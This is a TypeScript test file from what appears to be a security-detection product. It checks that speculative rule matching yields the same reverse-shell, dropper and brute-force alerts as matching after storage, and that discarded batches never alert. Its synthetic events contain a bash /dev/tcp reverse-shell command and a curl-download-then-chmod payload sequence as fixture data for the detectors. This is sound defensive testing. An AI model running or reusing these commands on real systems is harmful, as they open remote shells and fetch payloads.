// Speculative matching (issue 4, alert latency): batch bodies handed to the detection worker before the store
// acknowledges them must give exactly the alerts of evaluating them after the acknowledgement; a discarded batch and a
// batch's duplicate head never alert nor count in a correlation.

import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { repoRoot } from '@vigil/common';
import type { DetectEvent } from '@vigil/detect';
import { decodeEventBatch } from '@vigil/protocol';
import { createDuckDbStore } from '@vigil/store';
import { DetectionDb, type AlertRecord } from './detection-db.js';
import { createDetectionService, type DetectionService, type Speculation } from './detection-service.js';

const BRUTE_FORCE = '0b7f3a52-5a6f-4f37-9d1c-3c6c8f2b1a04';
const DROPPER = '6d1c2e8a-0c55-4a35-9f8e-8a3f5c1d2b03';
const REVERSE_SHELL_RULE_FILE = 'process_creation_reverse_shell_dev_tcp.yml';

/** The correlation test rules shared with tests/src/detection.test.ts: brute force, and download-chmod in /tmp. */
const correlationRules = ['brute-force.yml', 'dropper.yml'].map((file) => readFileSync(join(repoRoot(), 'tests', 'fixtures', 'rules', file), 'utf8')).join('\n---\n');

type Event = Record<string, unknown>;

/** One step of the stream, as the agent route meets it. */
type Step =
  | { kind: 'batch'; hostId: string; events: Event[]; accepted: number }
  /** The store refused the append: nothing of the batch may alert. */
  | { kind: 'failed'; hostId: string; events: Event[] }
  | { kind: 'reload' };

/** A deterministic stream over two hosts: duplicates heads, an all-duplicates batch, failed appends, a rule reload. */
function stream(): { steps: Step[]; reverseShellA: string; neverAlerting: Set<string> } {
  const startMs = Date.parse('2026-12-05T12:00:00.000Z');
  let clock = 0;
  const sequences = new Map<string, number>();
  const base = (hostId: string, category: string, action: string): Event => {
    const sequence = (sequences.get(hostId) ?? 0) + 1;
    sequences.set(hostId, sequence);
    return { '@timestamp': new Date(startMs + ++clock * 1000).toISOString(), 'event.id': randomUUID(), 'event.sequence': sequence, 'event.category': category, 'event.action': action, 'host.id': hostId };
  };
  const processStart = (hostId: string, commandLine: string, executable: string, pid: number): Event => ({
    ...base(hostId, 'process', 'start'),
    'process.pid': pid,
    'process.parent.pid': 1000,
    'process.executable': executable,
    'process.name': executable.split('/').pop(),
    'process.command_line': commandLine,
    'process.args': commandLine.split(' '),
    'process.parent.executable': '/usr/bin/bash',
    'user.name': 'www-data',
    'user.id': '33',
  });
  const login = (hostId: string, action: 'logon' | 'logon_failed', address: string): Event => ({
    ...base(hostId, 'authentication', action),
    'user.name': 'admin',
    'source.ip': address,
    'logon.service': 'sshd',
    'event.outcome': action === 'logon' ? 'success' : 'failure',
  });
  const failures = (hostId: string, count: number) => Array.from({ length: count }, () => login(hostId, 'logon_failed', '192.0.2.77'));
  const reverseShell = (hostId: string, pid: number) => processStart(hostId, 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', '/usr/bin/bash', pid);
  const curl = (hostId: string) => processStart(hostId, 'curl -o /tmp/payload http://203.0.113.5/p', '/usr/bin/curl', 7001);
  const chmod = (hostId: string) => processStart(hostId, 'chmod +x /tmp/payload', '/usr/bin/chmod', 7003);

  const a = 'host-a';
  const b = 'host-b';
  const first = [processStart(a, 'ls -la /srv', '/usr/bin/ls', 4241), reverseShell(a, 4242), ...failures(a, 3)];
  // Retransmitted: the reverse shell and two failures again (at or below the watermark), then new events.
  const second = [first[1]!, ...first.slice(3), ...failures(a, 2), curl(a)];
  const failedB = [reverseShell(b, 5001), login(b, 'logon_failed', '192.0.2.88'), curl(b), chmod(b)];
  const third = [...failures(a, 3), chmod(a)];
  const failedA = [...failures(a, 1), reverseShell(a, 4300)];
  const steps: Step[] = [
    // The first batch is handed over before the reload: its matching is made again with the reloaded rules.
    { kind: 'reload' },
    { kind: 'batch', hostId: a, events: first, accepted: first.length },
    { kind: 'batch', hostId: a, events: second, accepted: 3 },
    { kind: 'failed', hostId: b, events: failedB },
    { kind: 'batch', hostId: a, events: third, accepted: third.length },
    // All duplicates: the route discards the speculation.
    { kind: 'batch', hostId: a, events: third, accepted: 0 },
    // 9 failures from 192.0.2.77 acknowledged: no brute force yet.
    { kind: 'batch', hostId: a, events: [...failures(a, 1), login(a, 'logon', '192.0.2.77')], accepted: 2 },
    { kind: 'failed', hostId: a, events: failedA },
    { kind: 'batch', hostId: a, events: [...third.slice(1), ...failures(a, 1)], accepted: 1 },
    // The 10th acknowledged failure, then a success: one brute force.
    { kind: 'batch', hostId: a, events: [login(a, 'logon', '192.0.2.77')], accepted: 1 },
    { kind: 'batch', hostId: b, events: [processStart(b, 'ls /tmp', '/usr/bin/ls', 5002), reverseShell(b, 5003)], accepted: 2 },
  ];
  const neverAlerting = new Set([...failedB, ...failedA].map((event) => String(event['event.id'])));
  return { steps, reverseShellA: String(first[1]!['event.id']), neverAlerting };
}

interface Run {
  alerts: AlertRecord[];
  speculation: ReturnType<DetectionService['metrics']>['speculation'];
}

/**
 * Feeds the stream as the agent route does. `speculative`: each batch is handed over before its append, the next
 * batch too (so commits meet matchings done, unfinished and made with rules since reloaded); every third step waits
 * for the worker to match before committing, so the steps right after it commit finished matchings and the step after
 * those one handed over in the same turn (unfinished).
 */
async function runStream(steps: readonly Step[], speculative: boolean): Promise<Run> {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-speculation-'));
  const store = createDuckDbStore({ dataDir: join(dir, 'events'), ack: 'journal', threads: 1 });
  await store.open();
  const db = new DetectionDb(join(dir, 'detection.sqlite'));
  db.replacePack({ name: 'speculation-test', version: '1', description: 'correlations' }, [{ file: 'rules.yml', text: correlationRules }], 'test');
  const service = createDetectionService({ db, store, installBuiltinPack: true, maxSpeculativeBytes: speculative ? 1024 * 1024 : 0 });
  try {
    assert.ok(service.rules().some((rule) => rule.file === REVERSE_SHELL_RULE_FILE), 'the built-in reverse shell rule is loaded');
    // The worker reports its index once its rules are loaded (before that it matches nothing ahead).
    for (const deadline = Date.now() + 20_000; service.metrics().index === null; ) {
      assert.ok(Date.now() < deadline, 'the detection worker did not load its rules in 20 s');
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    const bodies = steps.map((step) => (step.kind === 'reload' ? undefined : Buffer.from(JSON.stringify({ host_id: step.hostId, events: step.events }))));
    const decoded = steps.map((step, i) => (step.kind === 'reload' ? undefined : decodeEventBatch(bodies[i]!, { expectedHostId: step.hostId })));
    const speculations = new Map<number, Speculation | undefined>();
    const speculate = (i: number) => {
      const step = steps[i];
      if (!speculative || !step || step.kind === 'reload' || speculations.has(i)) return;
      const slices = decoded[i]!.slices;
      const allParse = slices !== undefined && slices.starts.every((start) => start >= 0);
      // Every other batch without its slices: the worker then decodes the whole body in one step.
      speculations.set(i, service.speculate({ hostId: step.hostId, body: bodies[i]!, parsesAsValidated: allParse, ...(allParse && i % 2 === 0 ? { slices: slices! } : {}) }));
    };
    for (const [i, step] of steps.entries()) {
      speculate(i);
      speculate(i + 1);
      if (speculative && i % 3 === 2) await new Promise((resolve) => setTimeout(resolve, 300));
      if (step.kind === 'reload') {
        service.reload();
        continue;
      }
      const speculation = speculations.get(i);
      if (step.kind === 'failed' || step.accepted === 0) {
        if (speculation) service.discard(speculation);
        continue;
      }
      const { events, slices } = decoded[i]!;
      const tail = events.slice(events.length - step.accepted);
      let parsesAsValidated = slices !== undefined;
      for (let e = events.length - step.accepted; parsesAsValidated && e < events.length; e++) parsesAsValidated = slices!.starts[e]! >= 0;
      const last = Number(tail[tail.length - 1]!['event.sequence']);
      service.submitBatch({ hostId: step.hostId, body: bodies[i]!, parsesAsValidated, events: tail as unknown as readonly DetectEvent[], ackedThrough: last, acceptedAt: performance.now(), ...(speculation ? { speculation } : {}) });
    }
    await service.idle();
    return { alerts: db.listAlerts({ limit: 10_000 }), speculation: service.metrics().speculation };
  } finally {
    await service.close();
    db.close();
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

/** What an alert says, without the ids and clock times of storing it. */
function comparable(alerts: readonly AlertRecord[]) {
  return alerts
    .map((alert) => ({ ruleId: alert.ruleId, kind: alert.kind, level: alert.level, hostId: alert.hostId, processKey: alert.processKey, firstSeen: alert.firstSeen, lastSeen: alert.lastSeen, count: alert.count, eventIds: alert.eventIds, fields: alert.fields, group: alert.group }))
    .sort((x, y) => JSON.stringify(x).localeCompare(JSON.stringify(y)));
}

test('speculative matching stores exactly the alerts of evaluating after the acknowledgement; discarded batches and duplicates never alert', async () => {
  const { steps, reverseShellA, neverAlerting } = stream();
  const plain = await runStream(steps, false);
  const speculated = await runStream(steps, true);

  assert.deepEqual(comparable(speculated.alerts), comparable(plain.alerts), 'same alerts with and without speculation');
  assert.equal(plain.speculation.handed, 0, 'speculation off at maxSpeculativeBytes 0');
  assert.equal(speculated.speculation.handed, steps.filter((step) => step.kind !== 'reload').length);
  assert.equal(speculated.speculation.discarded, 3, 'two failed appends and one all-duplicates batch discarded');
  assert.ok(speculated.speculation.ready > 0, JSON.stringify(speculated.speculation));
  assert.ok(speculated.speculation.late > 0, JSON.stringify(speculated.speculation));
  assert.equal(speculated.speculation.ready + speculated.speculation.late, 7, 'every committed batch reported');
  assert.equal(speculated.speculation.heldBytes, 0, 'nothing held once every speculation is committed or discarded');

  for (const run of [plain, speculated]) {
    for (const alert of run.alerts) {
      for (const id of alert.eventIds) assert.ok(!neverAlerting.has(id), `alert ${alert.ruleTitle} names event ${id} of a failed append`);
    }
    // The reverse shell was retransmitted as a duplicate: evaluated once, so its alert counts one event.
    const shells = run.alerts.filter((alert) => alert.hostId === 'host-a' && alert.eventIds.includes(reverseShellA));
    assert.equal(shells.length, 1, JSON.stringify(run.alerts.map((alert) => alert.ruleTitle)));
    assert.equal(shells[0]!.count, 1);
    assert.deepEqual(shells[0]!.eventIds, [reverseShellA]);
    // Ten acknowledged failures (three more only in a failed append, two retransmitted, three in an all-duplicates
    // batch): the brute force fires once, after the tenth.
    const brute = run.alerts.filter((alert) => alert.ruleId === BRUTE_FORCE);
    assert.equal(brute.length, 1, JSON.stringify(run.alerts.map((alert) => alert.ruleTitle)));
    assert.deepEqual(brute[0]!.group, { 'source.ip': '192.0.2.77' });
    // The download and chmod of host-b were only in a failed append.
    assert.deepEqual(run.alerts.filter((alert) => alert.ruleId === DROPPER).map((alert) => alert.hostId), ['host-a']);
    assert.ok(run.alerts.some((alert) => alert.hostId === 'host-b'), 'host-b alerts on its acknowledged reverse shell');
  }
});
